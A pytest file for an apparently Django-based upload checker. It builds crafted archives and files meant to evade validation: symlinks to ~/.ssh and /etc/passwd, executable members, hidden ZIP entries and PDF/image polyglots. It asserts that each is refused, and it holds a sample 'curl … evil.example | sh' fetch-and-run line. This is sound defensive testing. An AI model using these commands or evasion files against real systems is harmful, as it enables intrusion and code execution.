"""Files made to slip something past upload_check: archive entries that are links, programs,
folders carrying data or entries the archive's list does not show; members named for
something other than what they hold; a web page behind a screenful of blanks or further in
a text; a PDF or an image with a ZIP archive attached to its end. Each is refused with a
sentence that says why, and the ordinary files next to them are still accepted."""

from __future__ import annotations

import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from openar.core.uploads import CheckedUpload, UploadKind, UploadRejected, upload_check

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def pdf_bytes(text: str = "Invoice 1001", *, pages: int = 1, compress: bool = True) -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=A4, pageCompression=int(compress))
    for number in range(pages):
        page.drawString(72, 720, f"{text}, page {number + 1}")
        for line in range(40):
            page.drawString(72, 700 - line * 14, f"Line {line}: delivered {line * 7} units of item {text}")
        page.showPage()
    page.save()
    return buffer.getvalue()


def png_bytes(width: int = 64, height: int = 64, *, seed: int = 1) -> bytes:
    """A real PNG made by hand (no image library): noise, so that its compressed data is as
    varied as a photo's."""
    rng = random.Random(seed)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + rng.randbytes(width * 3) for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )


def jpeg_bytes(size: int = 90_000, *, seed: int = 2) -> bytes:
    """A JPEG's framing made by hand: SOI, a JFIF APP0, a quantisation table, a frame, a scan
    of entropy-coded noise (0xFF stuffed as a real encoder does), EOI."""
    rng = random.Random(seed)
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\0" + bytes(range(1, 65))
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 64, 64, 1) + b"\x01\x11\x00"
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00"
    scan = rng.randbytes(size).replace(b"\xff", b"\xff\x00")
    return b"\xff\xd8" + app0 + dqt + sof + sos + scan + b"\xff\xd9"


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_with_modes(members: list[tuple[str, bytes, int]]) -> bytes:
    """A ZIP made on Unix: each member with its mode (type and permissions) in the high 16
    bits of the external attributes, as Info-ZIP and macOS write them."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data, mode in members:
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = mode << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def accepted(name: str, data: bytes, kind: UploadKind = UploadKind.DOCUMENT) -> CheckedUpload:
    return upload_check(upload(name, data), kind=kind)


def refusal(name: str, data: bytes, kind: UploadKind = UploadKind.DOCUMENT) -> str:
    with pytest.raises(UploadRejected) as caught:
        upload_check(upload(name, data), kind=kind)
    assert caught.value.status == 400
    return caught.value.message


# --- archive entries that are not plain files ---------------------------------------------------


def test_a_link_in_a_zip_is_refused() -> None:
    """A link named like a folder, then a file "inside" it: unpacked by a tool that follows
    links, the file lands wherever the link points."""
    data = zip_with_modes(
        [
            ("docs", b"/home/ar/.ssh", stat.S_IFLNK | 0o777),
            ("docs/authorized_keys.txt", b"ssh-ed25519 AAAA attacker\n", stat.S_IFREG | 0o644),
        ]
    )
    assert refusal("evidence.zip", data) == (
        "This archive contains “docs”, a link to another file, which is not accepted."
    )


CONTENT_TYPES = (
    b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def test_a_link_inside_an_office_file_is_refused_too() -> None:
    data = zip_with_modes(
        [
            ("[Content_Types].xml", CONTENT_TYPES, stat.S_IFREG | 0o644),
            ("word/document.xml", b"/etc/passwd", stat.S_IFLNK | 0o777),
        ]
    )
    assert refusal("pod.docx", data, UploadKind.ATTACHMENT) == (
        "This archive contains “document.xml”, a link to another file, which is not accepted."
    )


@pytest.mark.parametrize("file_type", [stat.S_IFIFO, stat.S_IFCHR, stat.S_IFBLK, stat.S_IFSOCK])
def test_devices_and_other_special_files_in_a_zip_are_refused(file_type: int) -> None:
    data = zip_with_modes([("a.pdf", pdf_bytes(), stat.S_IFREG | 0o644), ("null", b"", file_type | 0o666)])
    assert refusal("bundle.zip", data) == (
        "This archive contains “null”, which is not a file or a folder (a device or another special "
        "file), which is not accepted."
    )


@pytest.mark.parametrize("mode", [0o755, 0o700, 0o644 | 0o001, 0o644 | 0o010])
def test_a_file_marked_executable_in_a_zip_is_refused(mode: int) -> None:
    data = zip_with_modes([("notes.txt", b"curl -s https://evil.example/x | sh\n", stat.S_IFREG | mode)])
    assert refusal("evidence.zip", data) == (
        "This archive contains “notes.txt”, marked as a program (executable), which is not accepted. "
        "Make an archive of the files again without that mark."
    )


def test_plain_files_and_folders_with_unix_modes_are_accepted() -> None:
    """Folders carry x bits (to enter them); files with rw bits only are ordinary files; a ZIP
    made on Windows has no Unix mode at all."""
    data = zip_with_modes(
        [
            ("scans/", b"", stat.S_IFDIR | 0o755),
            ("scans/pod.pdf", pdf_bytes(), stat.S_IFREG | 0o644),
            ("scans/notes.txt", b"Delivered on 3 May.\n", stat.S_IFREG | 0o600),
            ("readme.txt", b"See the scans.\n", 0),
        ]
    )
    checked = accepted("scans.zip", data)
    assert (checked.content_type, checked.filename) == ("application/zip", "scans.zip")


def test_x_bits_inside_an_office_file_do_not_matter() -> None:
    """Office files are opened by their application, never unpacked onto a disk."""
    data = zip_with_modes(
        [
            ("[Content_Types].xml", CONTENT_TYPES, stat.S_IFREG | 0o755),
            ("word/document.xml", b"<w:document/>", stat.S_IFREG | 0o755),
        ]
    )
    assert accepted("pod.docx", data, UploadKind.ATTACHMENT).content_type == DOCX


def test_a_folder_entry_carrying_data_is_refused() -> None:
    """A Windows program stored under a folder's name: a tool that ignores the slash (or a
    mode that says folder) unpacks it as evil.exe."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.pdf", pdf_bytes())
        archive.writestr("evil.exe/", b"MZ" + b"\0" * 1000)
    assert refusal("x.zip", buffer.getvalue()) == (
        "This archive contains “evil.exe/”, a folder that carries data, which is not accepted."
    )

    by_mode = zip_with_modes([("run", b"MZ" + b"\0" * 64, stat.S_IFDIR | 0o755)])
    assert refusal("x.zip", by_mode) == (
        "This archive contains “run”, a folder that carries data, which is not accepted."
    )


def test_an_empty_folder_entry_is_accepted() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("2025/", b"")
        archive.writestr("2025/may/", b"")
        archive.writestr("2025/may/pod.pdf", pdf_bytes())
    assert accepted("pods.zip", buffer.getvalue()).content_type == "application/zip"


# --- entries the central directory does not list ---------------------------------------------


def _local_entries(data: bytes) -> bytes:
    return data[: data.index(b"PK\x01\x02")]


def _with_central_directory_at(data: bytes, local: bytes) -> bytes:
    """``data``'s central directory and end record after ``local`` (the end record's offset of
    the central directory moved to match)."""
    directory = data[data.index(b"PK\x01\x02") :]
    end = directory.index(b"PK\x05\x06")
    directory = directory[: end + 16] + struct.pack("<I", len(local)) + directory[end + 20 :]
    return local + directory


HIDDEN = "This ZIP archive holds a file that its list of contents does not show, which is not accepted."
DAMAGED = "This ZIP archive is damaged and could not be read."


def test_a_local_entry_after_the_listed_ones_is_refused() -> None:
    """Streaming unzippers read local entries from the start and would unpack evil.exe; the
    central directory lists only a.pdf."""
    hidden = _local_entries(zip_of({"evil.exe": b"MZ" + b"\0" * 100}))
    visible = zip_of({"a.pdf": pdf_bytes()})
    data = _with_central_directory_at(visible, _local_entries(visible) + hidden)
    assert zipfile.ZipFile(io.BytesIO(data)).namelist() == ["a.pdf"]
    assert refusal("x.zip", data) == HIDDEN


def test_a_local_entry_between_the_listed_ones_is_refused() -> None:
    hidden = _local_entries(zip_of({"run.bat": b"calc\n"}))
    both = zip_of({"a.pdf": pdf_bytes("A"), "b.pdf": pdf_bytes("B")})
    b_at = zipfile.ZipFile(io.BytesIO(both)).getinfo("b.pdf").header_offset
    local = _local_entries(both)
    # b.pdf's entry moved behind the hidden one; its offset in the central directory too
    directory = bytearray(both[len(local) :])
    second = directory.index(b"PK\x01\x02", 4)
    struct.pack_into("<I", directory, second + 42, b_at + len(hidden))
    data = _with_central_directory_at(local + bytes(directory), local[:b_at] + hidden + local[b_at:])
    assert zipfile.ZipFile(io.BytesIO(data)).namelist() == ["a.pdf", "b.pdf"]
    assert zipfile.ZipFile(io.BytesIO(data)).read("b.pdf") == zipfile.ZipFile(io.BytesIO(both)).read("b.pdf")
    assert refusal("x.zip", data) == HIDDEN


def test_a_zip_whose_list_is_empty_but_holds_entries_is_refused() -> None:
    local = _local_entries(zip_of({"evil.exe": b"MZ" + b"\0" * 100}))
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0, 0, 0, len(local), 0)
    assert zipfile.ZipFile(io.BytesIO(local + end)).namelist() == []
    assert refusal("x.zip", local + end) == HIDDEN


def test_entries_that_overlap_are_refused() -> None:
    """Two names in the list for one stored entry (the overlap zip bombs are made of)."""
    data = zip_of({"a.pdf": pdf_bytes()})
    directory = data[data.index(b"PK\x01\x02") : data.index(b"PK\x05\x06")]
    twin = directory.replace(b"a.pdf", b"b.pdf")
    end = data[data.index(b"PK\x05\x06") :]
    end = end[:8] + struct.pack("<HHI", 2, 2, len(directory) * 2) + end[16:]
    doubled = _local_entries(data) + directory + twin + end
    assert refusal("x.zip", doubled) == DAMAGED


def test_a_local_size_that_disagrees_with_the_list_is_refused() -> None:
    data = bytearray(zip_of({"a.pdf": pdf_bytes(), "b.pdf": pdf_bytes("B")}))
    struct.pack_into("<I", data, 18, struct.unpack_from("<I", data, 18)[0] + 30)
    assert refusal("x.zip", bytes(data)) == DAMAGED


def test_zips_written_as_a_stream_with_data_descriptors_are_accepted() -> None:
    """Tools that write as they go (Java, browsers' downloads of folders, Python on a pipe)
    put each entry's sizes in a descriptor after its data: the gaps hold no local header."""

    class Unseekable(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, chunk: bytes) -> int:  # type: ignore[override]
            self.data += chunk
            return len(chunk)

    sink = Unseekable()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.pdf", pdf_bytes("A"))
        archive.writestr("b/c.png", png_bytes())
        archive.writestr("inner.zip", zip_of({"d.pdf": pdf_bytes("D")}))
    data = bytes(sink.data)
    assert data.count(b"PK\x07\x08") == 3
    assert accepted("stream.zip", data).content_type == "application/zip"


def test_a_zip_stored_inside_a_zip_is_not_mistaken_for_a_hidden_entry() -> None:
    """Its local headers lie inside the outer entry's data, not in a gap."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("inner.zip", zip_of({"a.pdf": pdf_bytes(), "b.png": png_bytes()}))
        archive.writestr("c.pdf", pdf_bytes("C"))
    assert accepted("outer.zip", buffer.getvalue()).content_type == "application/zip"


# --- member names against their content ------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        (
            "Open me.command",
            b"curl -s https://evil.example/x | sh\n",
            "This archive contains “Open me.command”, named like a program or a web page.",
        ),
        (
            "statement.xht",
            b" \n" * 600 + b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
            "This archive contains “statement.xht”, named like a program or a web page.",
        ),
        (
            "q.iqy",
            b"WEB\n1\nhttps://evil.example/q\n",
            "This archive contains “q.iqy”, named like a program or a web page.",
        ),
        (
            "evil.exe.",  # Windows drops the trailing dot when it unpacks
            b"just text\n",
            "This archive contains “evil.exe”, named like a program or a web page.",
        ),
        (
            "photo.png",
            pdf_bytes(),
            "This archive contains “photo.png”, which is a PDF file but is not named like one; each file in "
            "an archive must have the extension of what it holds (.pdf for a PDF file).",
        ),
        (
            "invoice.pdf",
            png_bytes(),
            "This archive contains “invoice.pdf”, which is a PNG image but is not named like one; each file "
            "in an archive must have the extension of what it holds (.png for a PNG image).",
        ),
        (
            "README",
            b"Read me first.\n",
            "This archive contains “README”, which is a text file but is not named like one; each file in an "
            "archive must have the extension of what it holds (.txt for a text file).",
        ),
        (
            "settings.ini",
            b"[run]\ncommand=calc\n",
            "This archive contains “settings.ini”, which is a text file but is not named like one; each file "
            "in an archive must have the extension of what it holds (.txt for a text file).",
        ),
        (
            "pod.docx",
            pdf_bytes(),
            "This archive contains “pod.docx”, which is a PDF file but is not named like one; each file in "
            "an archive must have the extension of what it holds (.pdf for a PDF file).",
        ),
    ],
)
def test_a_member_must_be_named_for_what_it_holds(name: str, data: bytes, message: str) -> None:
    archive = zip_of({"ok.pdf": pdf_bytes(), name: data})
    assert refusal("evidence.zip", archive) == message


def test_the_reviewed_mix_is_refused_at_its_first_member() -> None:
    """The archive the review sent, refused at its first bad member (the executable mark)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("Open me.command")
        info.create_system = 3
        info.external_attr = (stat.S_IFREG | 0o755) << 16
        archive.writestr(info, "curl -s https://evil.example/x | sh\n")
        archive.writestr("q.iqy", "WEB\n1\nhttps://evil.example/q\n")
        archive.writestr("photo.png", pdf_bytes())
    assert refusal("evidence.zip", buffer.getvalue()) == (
        "This archive contains “Open me.command”, marked as a program (executable), which is not accepted. "
        "Make an archive of the files again without that mark."
    )


def test_names_within_a_family_or_of_the_content_are_accepted() -> None:
    data = zip_of(
        {
            "scan.jpg": png_bytes(),  # an image viewer opens either
            "photo.JPEG": jpeg_bytes(2_000),
            "rows.csv": b"number,total\nINV-1,10.00\n",
            "notes.md": b"# Notes\nDelivered.\n",
            "log.txt": b"a;b;c\n1;2;3\n",  # CSV content named .txt: both are text
            "empty.dat": b"",  # nothing to open
        }
    )
    assert accepted("mixed.zip", data).content_type == "application/zip"


def test_top_level_names_of_the_new_dangerous_extensions_are_refused() -> None:
    assert refusal("statement.xht", b"hello\n") == (
        "This file is named “statement.xht”, like a program or a web page, but contains a text file. "
        "Check that you chose the right file, or rename it."
    )
    assert refusal("q.iqy", b"WEB\n1\nhttps://evil.example/q\n").startswith("This file is named “q.iqy”")
    assert refusal("Open me.command", b"echo hi\n").startswith("This file is named “Open me.command”")


# --- web pages further in than the first bytes -------------------------------------------------

PAGE = b"<!doctype html><html><script>alert(1)</script></html>"


@pytest.mark.parametrize(
    "data",
    [
        b" " * 1100 + PAGE,
        b"\xef\xbb\xbf" + b"\r\n" * 5000 + PAGE,  # past the first 4 KiB read for sniffing
        "\u00a0\u2003\t".encode() * 30_000 + PAGE,  # other blanks, across a 64 KiB chunk
    ],
)
def test_a_page_behind_blanks_is_refused(data: bytes) -> None:
    assert refusal("page.txt", data) == (
        "This file is a web page (HTML), but documents can be PDF files, images (PNG, JPEG, WebP, HEIC), "
        "text or CSV files, Word, Excel or OpenDocument files, or ZIP archives of these."
    )


@pytest.mark.parametrize("marker", ["<script", "<HTML", "<Svg", "<!DOCTYPE html", "<iframe", "<?php"])
def test_markup_anywhere_in_a_text_is_refused(marker: str) -> None:
    data = b"Delivered on 3 May, signed by the driver.\n" * 200 + marker.encode() + b" src=x>\n"
    assert refusal("notes.txt", data) == (
        f"This file is text with web page or script code in it (“{marker.lower()}”), but documents can be "
        "PDF files, images (PNG, JPEG, WebP, HEIC), text or CSV files, Word, Excel or OpenDocument files, "
        "or ZIP archives of these."
    )


def test_markup_cut_in_two_by_a_read_is_found() -> None:
    chunk = 64 * 1024
    data = b"a" * (chunk - 4) + b"<script>alert(1)</script>\n"
    assert data[:chunk].endswith(b"<scr")
    assert refusal("rows.csv", data, UploadKind.IMPORT).startswith(
        "This file is text with web page or script code in it (“<script”), but imports must be"
    )


def test_a_page_behind_blanks_inside_a_zip_is_refused() -> None:
    data = zip_of({"statement.txt": b" \n" * 3000 + PAGE})
    assert refusal("statements.zip", data) == (
        "This archive contains “statement.txt”, which is a web page (HTML); an archive can only hold files "
        "that documents accept."
    )


def test_text_that_only_mentions_angle_brackets_is_accepted() -> None:
    data = b" " * 2000 + b"Totals < 100 and > 5; see <b>note</b> and a <scripted> reply.\n"
    checked = accepted("notes.txt", data)
    assert (checked.content_type, checked.filename) == ("text/plain", "notes.txt")


# --- polyglots: a PDF or an image with a ZIP attached ------------------------------------------


def _appended(data: bytes) -> bytes:
    return data + zip_of({"evil.exe": b"MZ" + b"\0" * 100, "run.bat": b"calc\n"})


@pytest.mark.parametrize(
    ("name", "make", "label", "kind"),
    [
        ("invoice.pdf", pdf_bytes, "a PDF file", UploadKind.CONTRACT),
        ("scan.png", png_bytes, "a PNG image", UploadKind.ATTACHMENT),
        ("photo.jpg", jpeg_bytes, "a JPEG image", UploadKind.ATTACHMENT),
    ],
)
def test_a_document_with_a_zip_attached_is_refused(
    name: str, make: Callable[[], bytes], label: str, kind: UploadKind
) -> None:
    data = _appended(make())
    assert zipfile.ZipFile(io.BytesIO(data)).namelist() == ["evil.exe", "run.bat"]  # unzippers see it
    with pytest.raises(UploadRejected) as caught:
        upload_check(upload(name, data), kind=kind)
    assert caught.value.message == (
        f"This file is {label} with a ZIP archive attached to its end, which is not accepted. "
        "Save or export it again and upload the new file."
    )
    assert (caught.value.status, caught.value.code) == (400, "polyglot")


def test_a_zip_attached_behind_a_long_comment_is_found() -> None:
    """The end record may be followed by a comment of up to 65,535 bytes."""
    archive = bytearray(zip_of({"evil.exe": b"MZ"}))
    struct.pack_into("<H", archive, len(archive) - 2, 65_535)
    data = pdf_bytes() + bytes(archive) + b"%" * 65_535
    assert zipfile.ZipFile(io.BytesIO(data)).namelist() == ["evil.exe"]
    assert refusal("invoice.pdf", data, UploadKind.CONTRACT).startswith(
        "This file is a PDF file with a ZIP archive attached to its end"
    )


def test_a_polyglot_inside_a_zip_is_refused() -> None:
    data = zip_of({"scans/pod.pdf": _appended(pdf_bytes())})
    assert refusal("scans.zip", data) == (
        "This archive contains “pod.pdf”, a PDF file with a ZIP archive attached to its end, which is not "
        "accepted. Save or export it again and upload the new file."
    )


def test_ordinary_pdfs_and_images_are_not_taken_for_polyglots() -> None:
    """ReportLab PDFs of many sizes, compressed or not, and images of noise (their compressed
    data as varied as a photo's): none holds a ZIP end record near its end."""
    samples: list[tuple[str, bytes]] = []
    for number in range(12):
        samples.append((f"inv-{number}.pdf", pdf_bytes(f"INV-{number:04d}", pages=1 + number % 4)))
        samples.append((f"raw-{number}.pdf", pdf_bytes(f"RAW-{number:04d}", compress=False)))
        samples.append((f"scan-{number}.png", png_bytes(40 + number * 9, 48, seed=number)))
        samples.append((f"photo-{number}.jpg", jpeg_bytes(20_000 + number * 7_000, seed=number)))
    for name, data in samples:
        kind = UploadKind.CONTRACT if name.endswith(".pdf") else UploadKind.ATTACHMENT
        checked = accepted(name, data, kind)
        assert (checked.filename, checked.size) == (name, len(data))
